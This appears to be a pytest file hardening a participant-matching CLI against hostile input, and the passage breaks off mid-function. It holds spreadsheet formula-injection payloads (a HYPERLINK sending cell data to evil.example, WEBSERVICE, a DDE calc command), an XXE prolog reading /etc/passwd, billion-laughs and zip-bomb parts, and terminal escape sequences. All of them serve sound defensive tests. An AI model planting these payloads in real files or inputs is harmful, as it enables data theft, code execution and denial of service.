"""Hostile workbooks, plans and text (issue 20): no live formula in any workbook written, no
silent row loss or unbounded cost reading one, strict plan files, inert text on the terminal
and in the page, an exit code that never lies after a signal, and a quiet, local library.

Each test is named after the defect it replays, as a new user meets it: the CLI as a
subprocess, files made byte by byte where needed."""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import MAY2016, REPO, tiny_data

ENV = dict(os.environ, PYTHONPATH=str(REPO), PYTHONHASHSEED="0")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B3,"click")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "bell\x07 nul\x00 esc\x1b[31m",
]


def matcher(
    *args: str, stdin: bytes | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "matcher", *args],
        input=stdin.decode("latin-1") if stdin is not None else None,
        capture_output=True,
        text=True,
        env=ENV,
        cwd=REPO,
        timeout=timeout,
    )


def write_json(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def hostile_tiny() -> dict[str, Any]:
    """tiny_data with a hostile value in every free-text field a workbook shows."""
    data = tiny_data()
    for i, p in enumerate(data["participants"]):
        text = HOSTILE[i % len(HOSTILE)]
        p["name"] = text
        p["email"] = "=1+1" if i % 2 else "a@b.org"
        p["organisation"] = f"{text} org{i}"
        p["organisation_type"] = HOSTILE[(i + 1) % len(HOSTILE)]
        p["system"] = HOSTILE[(i + 2) % len(HOSTILE)]
        p["interests"] = ["=A1", *p["interests"]]
    for c in data["cohorts"]:
        c["name"] = '=HYPERLINK("http://x.example","cohort")'
        c["venue"] = "@venue\x01"
    return data


def formula_cells(book: Path) -> list[str]:
    """Every <f> element (a formula) in every sheet part of the workbook, and whether any
    sheet part holds a raw C0 control character."""
    found = []
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                body = z.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<f[ >][^<]*", body)]
                found += [f"{name}: t=str" for _ in re.findall(r't="str"', body)]
    return found


def shared_strings(book: Path) -> str:
    """The XML of the shared strings and every sheet (write-only sheets hold inline strings)."""
    with zipfile.ZipFile(book) as z:
        parts = [n for n in z.namelist() if n.endswith("sharedStrings.xml") or "worksheets/" in n]
        return html.unescape("".join(z.read(n).decode("utf-8") for n in parts))


# --- 1. workbooks out ---------------------------------------------------------------------------


def test_formula_in_name_is_never_a_live_formula_in_the_plan_workbook(tmp_path: Path) -> None:
    """A name, email, organisation, type, system, cohort name or venue starting with `=` was
    written as a live formula (HYPERLINK to another person's cell, WEBSERVICE)."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "plan.xlsx"
    run = matcher("solve", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []
    strings = shared_strings(out)
    assert '=HYPERLINK("http://evil.example/?"&B3' in strings
    assert "WEBSERVICE" in strings and "@SUM(A1:A9)" in strings
    # Read back: the values are the text as typed, the formulas are not there.
    from openpyxl import load_workbook

    book = load_workbook(out)
    values = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert '=HYPERLINK("http://evil.example/?"&B3,"click")' in values
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_control_character_in_name_made_visible_not_illegal_character_error(
    tmp_path: Path,
) -> None:
    """A control character in a name (valid in JSON) made the plan workbook impossible: exit 1,
    IllegalCharacterError."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "plan.xlsx"
    run = matcher("solve", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    strings = shared_strings(out)
    assert "bell\\x07 nul\\x00 esc\\x1b[31m" in strings
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", strings)


def test_formula_in_name_is_text_in_the_report_workbook(tmp_path: Path) -> None:
    """`matcher report INSTANCE PLAN -o x.xlsx` writes the same safe workbook."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    plan = tmp_path / "plan.json"
    assert matcher("solve", str(src), "-o", str(plan)).returncode == 0
    out = tmp_path / "report.xlsx"
    run = matcher("report", str(src), str(plan), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []


def test_formula_in_name_is_text_in_the_intake_template(tmp_path: Path) -> None:
    """`matcher template --from INSTANCE` wrote the hostile values as formulas too; read back,
    the workbook gives the same text."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "intake.xlsx"
    run = matcher("template", "--from", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []
    assert '=HYPERLINK("http://x.example"' in shared_strings(out)


def test_sheet_cell_unit() -> None:
    """The one safe-cell rule: numbers stay numbers, text is text whatever it starts with."""
    from openpyxl import Workbook

    from matcher.text import MAX_CELL, sheet_cell

    ws = Workbook().active
    assert sheet_cell(ws, 3) == 3 and sheet_cell(ws, 0.5) == 0.5 and sheet_cell(ws, None) is None
    for text in HOSTILE:
        cell = sheet_cell(ws, text)
        assert cell.data_type == "s"
    assert sheet_cell(ws, "=1").quotePrefix
    assert len(sheet_cell(ws, "x" * 100_000).value) <= MAX_CELL


# --- 2. workbooks in ----------------------------------------------------------------------------


def may2016() -> dict[str, Any]:
    return json.loads(MAY2016.read_text(encoding="utf-8"))


def intake_book(data: dict[str, Any] | None = None, hook: Any = None) -> bytes:
    """The intake workbook of ``data`` (may2016 by default) as bytes; ``hook(book)`` may edit
    it before saving."""
    import io

    from matcher.intake.template import build_workbook

    book = build_workbook(data or may2016())
    if hook is not None:
        hook(book)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def rezip(raw: bytes, edit: dict[str, Any], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """``raw`` (a workbook) with parts replaced: ``edit[name]`` is new bytes or a function of the
    old bytes."""
    import io

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as src, zipfile.ZipFile(out, "w", method) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            change = edit.get(info.filename)
            if change is not None:
                body = change(body) if callable(change) else change
            dst.writestr(info.filename, body)
        for name, body in edit.items():
            if name not in src.namelist():
                dst.writestr(name, body)
    return out.getvalue()


def dimension(ref: str) -> Any:
    return lambda body: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), body)


def test_rows_outside_the_declared_dimension_are_read(tmp_path: Path) -> None:
    """`validate` said "valid (49 participants)" for a 52-person sheet whose <dimension> said
    A1:O50: Excel shows all 52 rows."""
    raw = rezip(intake_book(), {"xl/worksheets/sheet1.xml": dimension("A1:O50")})
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    run = matcher("validate", str(path))
    assert run.returncode == 0, run.stderr
    assert "valid (52 participants" in run.stdout


def test_status_column_outside_the_declared_dimension_is_read(tmp_path: Path) -> None:
    """A cut-off Status column (the dimension ended at column N) turned a withdrawn person
    back to active."""
    data = may2016()
    data["participants"][3]["status"] = "withdrawn"
    raw = rezip(intake_book(data), {"xl/worksheets/sheet1.xml": dimension("A1:N53")})
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    out = tmp_path / "intake.json"
    run = matcher("import", str(path), "-o", str(out))
    assert run.returncode == 0, run.stderr
    people = json.loads(out.read_text())["participants"]
    assert people[3]["status"] == "withdrawn"


def test_later_lookalike_participants_sheet_is_refused(tmp_path: Path) -> None:
    """A later sheet named "participants " silently replaced the visible "Participants"."""

    def add(book: Any) -> None:
        ws = book.create_sheet("participants ")
        ws.append(["ID", "Role"])

    path = tmp_path / "intake.xlsx"
    path.write_bytes(intake_book(hook=add))
    run = matcher("validate", str(path))
    assert run.returncode == 3, run.stderr
    assert "several sheets have this name" in run.stderr
    assert "'Participants'" in run.stderr and "'participants '" in run.stderr


def test_very_hidden_participants_sheet_is_refused(tmp_path: Path) -> None:
    """A very hidden sheet whose name normalises to "participants" replaced the visible one;
    a hidden Participants sheet alone is refused too (what is read must be what is seen)."""

    def hide(book: Any) -> None:
        book["Participants"].sheet_state = "veryHidden"
        book.active = 1

    path = tmp_path / "intake.xlsx"
    path.write_bytes(intake_book(hook=hide))
    run = matcher("validate", str(path))
    assert run.returncode == 3, run.stderr
    assert "very hidden" in run.stderr

    def twin(book: Any) -> None:
        ws = book.create_sheet("PARTICIPANTS_")
        ws.append(["ID", "Role"])
        ws.sheet_state = "veryHidden"

    path.write_bytes(intake_book(hook=twin))
    run = matcher("validate", str(path))
    assert run.returncode == 3 and "several sheets have this name" in run.stderr


def test_huge_declared_dimension_is_bounded(tmp_path: Path) -> None:
    """A 16 KB file declaring A1:XFD1048576 (an empty formatted cell in its last corner) kept
    `validate` busy past 300 s: the declared dimension is ignored, empty rows cost nothing and
    the one far cell is read once."""
    corner = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    raw = rezip(
        intake_book(),
        {
            "xl/worksheets/sheet1.xml": lambda b: dimension("A1:XFD1048576")(b).replace(
                b"</sheetData>", corner
            )
        },
    )
    path = tmp_path / "intake.xlsx"
    assert len(raw) < 20_000
    path.write_bytes(raw)
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 0, run.stderr
    assert "valid (52 participants" in run.stdout


def test_value_far_right_or_far_down_is_refused_not_dropped(tmp_path: Path) -> None:
    """A value in column XFD, or in row 1,048,576, is refused naming the sheet and row (never
    dropped, never a 16,384-wide walk of a million rows)."""

    def far(book: Any) -> None:
        book["Participants"].cell(row=5, column=16_384, value="x")

    path = tmp_path / "intake.xlsx"
    path.write_bytes(intake_book(hook=far))
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 3, run.stderr
    assert "Participants!row 5" in run.stderr and "column 16,384" in run.stderr

    def deep(book: Any) -> None:
        book["Participants"].cell(row=1_048_576, column=1, value="pl99")

    path.write_bytes(intake_book(hook=deep))
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 3, run.stderr
    assert "data beyond row 100,000" in run.stderr


def test_zip_bomb_part_is_refused_before_parsing(tmp_path: Path) -> None:
    """An 840 KB workbook took 183 s and 1.9 GB: a part of five million rows packed a
    thousand to one is refused before any XML is parsed."""
    filler = b"<row/>" * 5_000_000  # 30 MB of empty rows, about 30 KB packed
    raw = rezip(
        intake_book(),
        {"xl/worksheets/sheet1.xml": lambda b: b.replace(b"<sheetData>", b"<sheetData>" + filler)},
    )
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 3, run.stderr
    assert "Participants" in run.stderr and "more than 100,000 rows" in run.stderr


def test_unpacked_size_and_part_count_are_bounded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The unpacked total is checked from the zip directory before anything is parsed."""
    from matcher.errors import InvalidInstance
    from matcher.intake import spreadsheet

    path = tmp_path / "intake.xlsx"
    path.write_bytes(intake_book())
    monkeypatch.setattr(spreadsheet, "MAX_UNPACKED", 10_000)
    with pytest.raises(InvalidInstance, match="unpacks to"):
        spreadsheet.read_workbook(path)
    monkeypatch.setattr(spreadsheet, "MAX_UNPACKED", 2**30)
    monkeypatch.setattr(spreadsheet, "MAX_PARTS", 5)
    with pytest.raises(InvalidInstance, match="parts"):
        spreadsheet.read_workbook(path)


DAMAGE = {
    "truncated XML": lambda b: b[: len(b) // 2],
    "bad shared-string index": lambda b: (
        b.replace(b'<c r="A2" t="inlineStr"><is><t>', b'<c r="A2" t="s"><v>99999</v><is><t>', 1)
        if b't="inlineStr"' in b
        else re.sub(rb'(<c r="A2"[^>]*t="s"[^>]*><v>)\d+', rb"\g<1>99999", b, count=1)
    ),
    "text in a number cell": lambda b: re.sub(
        rb'<c r="A2"[^>]*>.*?</c>', b'<c r="A2" t="n"><v>not a number</v></c>', b, count=1
    ),
}


@pytest.mark.parametrize("kind", list(DAMAGE))
def test_damaged_sheet_part_is_exit_3_naming_the_sheet(tmp_path: Path, kind: str) -> None:
    """A damaged sheet part (truncated XML, a bad shared-string index, text in a number cell)
    gave exit 1 "a bug" instead of exit 3."""
    raw = rezip(intake_book(), {"xl/worksheets/sheet1.xml": DAMAGE[kind]})
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    run = matcher("validate", str(path))
    assert run.returncode == 3, (kind, run.stderr)
    assert "Participants" in run.stderr or "sheet1.xml" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and "internal error" not in run.stderr


XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


@pytest.mark.parametrize("prolog", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_dtd_in_a_part_is_exit_3(tmp_path: Path, prolog: bytes, part: str) -> None:
    """An XXE or billion-laughs DTD gave exit 1; it is refused before parsing."""
    raw = rezip(intake_book(), {part: lambda b: prolog + b.split(b"?>", 1)[-1]})
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 3, run.stderr
    assert "DTD" in run.stderr and part in run.stderr


CSV_HEAD = "ID,Role,Organisation,Organisation type,Local system\r\n"
COHORTS_CSV = "ID,Sessions,Capacity (pairs),Mode\r\nc1,12/05/2016,4,In person\r\n"


def csv_pair(tmp_path: Path, people: bytes) -> tuple[Path, Path]:
    p, c = tmp_path / "people.csv", tmp_path / "cohorts.csv"
    p.write_bytes(people)
    c.write_bytes(COHORTS_CSV.encode())
    return p, c


def test_csv_cell_over_the_limit_is_exit_3_naming_the_row(tmp_path: Path) -> None:
    """A CSV cell over 131,072 characters gave exit 1."""
    body = (
        CSV_HEAD
        + "pl1,Patient leader,hw,healthwatch,s\r\n"
        + f"pr1,Clinician,{'x' * 200_000},ccg,s\r\n"
    )
    p, c = csv_pair(tmp_path, body.encode())
    run = matcher("import", str(p), "--cohorts", str(c), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "people.csv!row 3" in run.stderr and "131,072" in run.stderr
    assert not (tmp_path / "o.json").exists()


def test_csv_unterminated_quote_is_exit_3_naming_the_row(tmp_path: Path) -> None:
    """An unterminated quote swallowed the rest of the file into one cell (or gave exit 1)."""
    body = CSV_HEAD + 'pl1,Patient leader,"hw,healthwatch,s\r\npr1,Clinician,t,ccg,s\r\n'
    p, c = csv_pair(tmp_path, body.encode())
    run = matcher("import", str(p), "--cohorts", str(c), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "people.csv!row 2" in run.stderr and "never closes" in run.stderr


def test_utf16_csv_is_detected_and_read(tmp_path: Path) -> None:
    """A UTF-16 CSV (Excel's "Unicode Text") was reported as "no column 'ID'"."""
    body = CSV_HEAD + "pl1,Patient leader,hw,healthwatch,s\r\npr1,Clinician,t,ccg,s\r\n"
    for encoded in (body.encode("utf-16"), body.encode("utf-16-le")):
        p, c = csv_pair(tmp_path, encoded)
        out = tmp_path / "o.json"
        run = matcher("import", str(p), "--cohorts", str(c), "-o", str(out))
        assert run.returncode == 0, run.stderr
        assert [x["id"] for x in json.loads(out.read_text())["participants"]] == ["pl1", "pr1"]


def test_deeply_nested_mapping_toml_is_exit_3(tmp_path: Path) -> None:
    """A deeply nested --mapping TOML gave exit 1 (RecursionError); a huge one is refused."""
    book = tmp_path / "intake.xlsx"
    book.write_bytes(intake_book())
    mapping = tmp_path / "map.toml"
    mapping.write_text("x = " + "[" * 50_000 + "]" * 50_000 + "\n")
    run = matcher("import", str(book), "--mapping", str(mapping), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "nested more than" in run.stderr
    mapping.write_text("[participants]\n" + '"a" = "ID"\n' * 200_000)
    run = matcher("import", str(book), "--mapping", str(mapping), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "larger than 1 MB" in run.stderr


def test_unknown_header_warnings_are_cut_and_counted(tmp_path: Path) -> None:
    """Unknown-header warnings were neither cut nor counted: 33.8 MB of stderr from a 170 KB
    workbook."""

    def wide(book: Any) -> None:
        ws = book["Participants"]
        for col in range(16, 900):
            ws.cell(row=1, column=col, value=f"Question {col} " + "?" * 5_000)

    path = tmp_path / "intake.xlsx"
    path.write_bytes(intake_book(hook=wide))
    run = matcher("validate", str(path))
    assert run.returncode == 0, run.stderr
    assert "884 columns not used" in run.stderr and "and 864 more" in run.stderr
    assert len(run.stderr) < 8_000


def test_instance_through_a_pipe_is_read_once(tmp_path: Path) -> None:
    """`matcher validate <(cat x.json)` failed: format sniffing ate the first bytes. JSON and
    workbooks both work through a pipe."""
    run = matcher("validate", "/dev/stdin", stdin=MAY2016.read_bytes())
    assert run.returncode == 0, run.stderr
    assert "valid (52 participants" in run.stdout
    book = intake_book()
    proc = subprocess.run(
        [sys.executable, "-m", "matcher", "validate", "/dev/stdin"],
        input=book,
        capture_output=True,
        env=ENV,
        cwd=REPO,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert b"valid (52 participants" in proc.stdout


def test_part_compressed_beyond_deflate_is_refused(tmp_path: Path) -> None:
    """A part packed far beyond what deflate reaches (bzip2, 5 MB of spaces in a few bytes) is
    refused from the zip directory alone."""
    raw = rezip(
        intake_book(),
        {
            "xl/worksheets/sheet1.xml": lambda b: b.replace(
                b"<sheetData>", b" " * 5_000_000 + b"<sheetData>"
            )
        },
        method=zipfile.ZIP_BZIP2,
    )
    path = tmp_path / "intake.xlsx"
    path.write_bytes(raw)
    run = matcher("validate", str(path), timeout=60)
    assert run.returncode == 3, run.stderr
    assert "compressed" in run.stderr and "at most 1000 to 1" in run.stderr


# --- 5. signals ---------------------------------------------------------------------------------

SIGNAL_SCRIPT = r"""
import atexit, os, signal, sys
from matcher import files
where, signame, inst, out = sys.argv[1:5]
sig = getattr(signal, signame)
real_fsync, real_dirsync = os.fsync, files._fsync_directory

def kill():
    os.kill(os.getpid(), sig)

if where == "before-rename":  # the temporary file is written and synced, not yet renamed
    def fsync(fd):
        real_fsync(fd)
        kill()
    files.os.fsync = fsync
elif where == "after-rename":  # renamed into place, the directory not yet synced
    def dirsync(d):
        kill()
        real_dirsync(d)
    files._fsync_directory = dirsync
elif where == "at-exit":  # the command has finished; the interpreter is shutting down
    atexit.register(kill)
sys.argv = ["matcher", "solve", inst, "-o", out]
from matcher.__main__ import run
run()
"""


@pytest.mark.parametrize("signame", ["SIGINT", "SIGTERM"])
@pytest.mark.parametrize("where", ["before-rename", "after-rename", "at-exit"])
def test_signal_at_the_rename_never_lies(tmp_path: Path, where: str, signame: str) -> None:
    """A signal landing after the plan was renamed into place gave exit 130/143 and "stopped,
    nothing written" while the file was replaced (90 of 90 aimed at the rename), or the
    process died by the signal after finishing. Before the rename: nothing is replaced."""
    out = tmp_path / "plan.json"
    out.write_text("OLD")
    run = subprocess.run(
        [sys.executable, "-c", SIGNAL_SCRIPT, where, signame, str(MAY2016), str(out)],
        capture_output=True,
        text=True,
        env=ENV,
        cwd=REPO,
        timeout=120,
    )
    leftovers = [p.name for p in tmp_path.iterdir() if p.name != "plan.json"]
    assert leftovers == []
    if where == "before-rename":
        assert run.returncode == {"SIGINT": 130, "SIGTERM": 143}[signame], run.stderr
        assert "nothing written" in run.stderr
        assert out.read_text() == "OLD"
    else:
        assert run.returncode == 0, run.stderr
        assert "nothing written" not in run.stderr and "wrote" in run.stderr
        assert json.loads(out.read_text())["instance"] == "may2016"


# --- 4. plans in --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def plan_json(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    out = tmp_path_factory.mktemp("plan") / "plan.json"
    run = matcher("solve", str(MAY2016), "-o", str(out))
    assert run.returncode == 0, run.stderr
    return json.loads(out.read_text())


def tampered(tmp_path: Path, plan: dict[str, Any], edit: Any, name: str = "tampered") -> Path:
    import copy

    data = copy.deepcopy(plan)
    edit(data)
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(data))
    return path


def test_previous_plan_with_duplicate_pair_ids_is_exit_3(
    tmp_path: Path, plan_json: dict[str, Any]
) -> None:
    """Duplicate pair IDs in --previous failed the solver's own verification: exit 1, "a bug"."""

    def dup(d: dict[str, Any]) -> None:
        d["pairs"][1]["id"] = d["pairs"][0]["id"]

    path = tampered(tmp_path, plan_json, dup)
    run = matcher("solve", str(MAY2016), "--previous", str(path), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "pair IDs used twice: 'pair-01'" in run.stderr
    assert not (tmp_path / "o.json").exists()


def test_previous_plan_with_a_5000_digit_pair_number_is_exit_3(
    tmp_path: Path, plan_json: dict[str, Any]
) -> None:
    """A 5,000-digit pair number gave exit 1 with a traceback."""

    def huge(d: dict[str, Any]) -> None:
        old = d["pairs"][0]["id"]
        new = "pair-" + "9" * 5_000
        d["pairs"][0]["id"] = new
        for c in d["cohorts"] + d["learning_sets"]:
            c["pairs"] = [new if x == old else x for x in c["pairs"]]

    path = tampered(tmp_path, plan_json, huge)
    run = matcher("solve", str(MAY2016), "--previous", str(path), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "an ID of 5,005 characters; at most 200" in run.stderr
    assert "Traceback" not in run.stderr


def test_previous_plan_with_a_60kb_id_is_refused_at_once(
    tmp_path: Path, plan_json: dict[str, Any]
) -> None:
    """A 60 kB ID cost 24-34 s (a quadratic regular expression): refused by length now, and the
    trailing-number parse is linear anyway."""
    from matcher.engine.replan import _number

    def long_id(d: dict[str, Any]) -> None:
        d["learning_sets"][0]["id"] = "1" * 60_000 + "x"

    path = tampered(tmp_path, plan_json, long_id)
    run = matcher("solve", str(MAY2016), "--previous", str(path), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "an ID of 60,001 characters" in run.stderr
    import time

    started = time.process_time()
    assert _number("1" * 1_000_000 + "x") == 0 and _number("pair-" + "7" * 50) == 0
    assert _number("pair-12") == 12
    assert time.process_time() - started < 1.0


def test_100mb_previous_plan_is_refused_by_size(tmp_path: Path) -> None:
    """A 100 MB plan was read with no size limit (934 MB of memory)."""
    path = tmp_path / "big.json"
    with path.open("wb") as fh:
        fh.write(b'{"pairs": [' + b" " * (65 * 2**20) + b"]}")
    run = matcher("solve", str(MAY2016), "--previous", str(path), "-o", str(tmp_path / "o.json"))
    assert run.returncode == 3, run.stderr
    assert "larger than 64 MB" in run.stderr


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: d["pairs"][0].__setitem__("score", 1e308),
        lambda d: d["pairs"][0].__setitem__("cohort", "c9"),
        lambda d: d["learning_sets"][0]["pairs"].append("pair-99"),
        lambda d: d["cohorts"].append({"id": "c9", "pairs": []}),
        lambda d: d["pairs"][0].__setitem__("patient_leader", "p99"),
        lambda d: d.__setitem__("waitlist", [{"pair": "pair-77", "reason": "x"}]),
    ],
    ids=["huge-score", "pair-cohort", "set-unknown-pair", "unknown-cohort", "unknown-person",
         "waitlist-unknown-pair"],
)  # fmt: skip
def test_report_on_a_tampered_plan_is_exit_3(
    tmp_path: Path, plan_json: dict[str, Any], edit: Any, request: pytest.FixtureRequest
) -> None:
    """`report` on a tampered plan exited 1 (KeyError, OverflowError)."""
    path = tampered(tmp_path, plan_json, edit)
    commands = [
        ["report", str(MAY2016), str(path), "-o", str(tmp_path / "r.html")],
        ["explain", str(MAY2016), str(path), "--why", "pl01"],
    ]
    if request.node.callspec.id not in ("unknown-cohort", "unknown-person"):
        commands.append(["diff", str(path), str(path)])  # a fault of the plan on its own
    for args in commands:
        run = matcher(*args)
        assert run.returncode == 3, (args, run.stderr)
        assert "Traceback" not in run.stderr and "internal error" not in run.stderr


def test_duplicate_keys_and_nan_in_a_plan_are_exit_3(tmp_path: Path) -> None:
    """Plans are read as strictly as instance files: duplicate keys, NaN, deep nesting."""
    for body in ('{"pairs": [], "pairs": []}', '{"pairs": [NaN]}', "[" * 100 + "]" * 100):
        path = tmp_path / "p.json"
        path.write_text(body)
        run = matcher("diff", str(path), str(path))
        assert run.returncode == 3, run.stderr


# --- 3. text out --------------------------------------------------------------------------------

ESC_ID = "pl01\x1b]0;pwned\x07\u202e"


def test_diff_prints_ids_and_reasons_escaped(tmp_path: Path, plan_json: dict[str, Any]) -> None:
    """`matcher diff` printed IDs and reasons from plan files raw: ESC/OSC sequences and bidi
    overrides reached the terminal."""

    def hostile(d: dict[str, Any]) -> None:
        d["pairs"][0]["patient_leader"] = ESC_ID
        d["unmatched"].append({"participant": ESC_ID + "2", "reason": "gone \x1b[2J\u202eevil"})

    path = tampered(tmp_path, plan_json, hostile)
    run = matcher("diff", str(MAY2016), str(path))
    # an intake where a plan goes: a usage error saying the right order (issue 16)
    assert run.returncode == 2 and "is an intake, not a plan" in run.stderr
    run = matcher("diff", str(tampered(tmp_path, plan_json, lambda d: None, "plain")), str(path))
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout and "\u202e" not in run.stdout and "\x07" not in run.stdout
    assert "\\x1b" in run.stdout and "\\u202e" in run.stdout


def test_explain_prints_interests_and_ids_escaped(tmp_path: Path) -> None:
    """`matcher explain` printed interests from the instance raw."""
    data = may2016()
    for p in data["participants"]:
        p["interests"] = ["carers\x1b[31m\u202e", *p["interests"]]
    src = write_json(tmp_path / "in.json", data)
    for fmt in ("text", "json"):
        run = matcher("explain", str(src), "--why", "pl01", "--format", fmt)
        assert run.returncode == 0, run.stderr
        assert "\x1b" not in run.stdout and "\u202e" not in run.stdout


def test_warnings_are_escaped(tmp_path: Path) -> None:
    """Near-miss spelling warnings quoted organisations raw."""
    data = may2016()
    data["participants"][0]["organisation"] = "Surrey Heartlands\x1b[2J"
    data["participants"][1]["organisation"] = "Surrey Heartland\x1b[2J"
    src = write_json(tmp_path / "in.json", data)
    run = matcher("validate", str(src))
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stderr


def test_bidi_and_nul_are_neutralised_in_the_html_page(tmp_path: Path) -> None:
    """Bidi overrides and NUL reached the HTML page raw."""
    data = tiny_data()
    data["participants"][0]["name"] = "Ann\u202eevil\x00"
    data["cohorts"][0]["name"] = "London\u2066x\u2069"
    src = write_json(tmp_path / "in.json", data)
    out = tmp_path / "plan.html"
    run = matcher("solve", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    page = out.read_text(encoding="utf-8")
    for ch in ("\u202e", "\x00", "\u2066", "\u2069"):
        assert ch not in page
    assert "Ann\\u202eevil\\x00" in page


@pytest.mark.parametrize(
    "field,value",
    [("partner", "Jane Doe"), ("partner", "jane.doe@example.org"), ("avoid", ["07700900123"]),
     ("preferences", ["+447700900123"])],
)  # fmt: skip
def test_name_phone_or_email_in_an_id_field_is_not_echoed(
    tmp_path: Path, field: str, value: Any
) -> None:
    """A name, phone number or email typed into partner, avoid or preferences was quoted in
    full in error messages."""
    data = may2016()
    data["participants"][0][field] = value
    src = write_json(tmp_path / "in.json", data)
    run = matcher("validate", str(src))
    assert run.returncode == 3, run.stderr
    text = value if isinstance(value, str) else value[0]
    assert text not in run.stderr
    assert "not an ID, not shown" in run.stderr


def test_unknown_id_like_value_is_still_quoted(tmp_path: Path) -> None:
    """An ID-like typo is quoted (it helps, and holds no personal data)."""
    data = may2016()
    data["participants"][0]["avoid"] = ["p99"]
    run = matcher("validate", str(write_json(tmp_path / "in.json", data)))
    assert run.returncode == 3 and "unknown participant 'p99'" in run.stderr


# --- 6. quiet and local -------------------------------------------------------------------------


def test_internal_error_prints_no_traceback_without_debug(tmp_path: Path) -> None:
    """Any internal error printed a full traceback without --debug: the library logged with
    log.exception and no handler (Python's last-resort handler printed it)."""
    script = (
        "import sys\n"
        "import matcher.engine.assemble as a\n"
        "def boom(*args, **kw):\n"
        "    raise RuntimeError('secret Jane Doe')\n"
        "a.make_plan = boom\n"
        f"sys.argv = ['matcher', 'solve', {str(MAY2016)!r}]\n"
        "from matcher.__main__ import run\n"
        "run()\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=ENV, timeout=120
    )
    assert run.returncode == 1, run.stderr
    assert "internal error" in run.stderr
    assert "Traceback" not in run.stderr and "Jane Doe" not in run.stderr


def test_library_logger_has_a_null_handler() -> None:
    import logging

    import matcher

    assert matcher.__name__ == "matcher"
    assert any(isinstance(h, logging.NullHandler) for h in logging.getLogger("matcher").handlers)


def test_dask_executor_binds_loopback_without_dashboard(monkeypatch: pytest.MonkeyPatch) -> None:
    """`matcher bench --executor dask` served the Dask dashboard on 0.0.0.0: the cluster and
    its dashboard (if any) listen on the loopback interface only."""
    distributed = pytest.importorskip("distributed")
    from matcher.tools import bench

    seen: dict[str, Any] = {}

    class Stop(Exception):
        pass

    def fake(**kwargs: Any) -> Any:
        seen.update(kwargs)
        raise Stop

    monkeypatch.setattr(distributed, "LocalCluster", fake)
    with pytest.raises(Stop):
        bench._run_dask([object()], jobs=1, scheduler=None, progress=None)  # type: ignore[list-item]
    dashboard = seen["dashboard_address"]
    assert seen["host"] == "127.0.0.1"
    assert dashboard is None or str(dashboard).startswith("127.0.0.1:")


def test_spelling_check_of_10000_interests_is_bounded(tmp_path: Path) -> None:
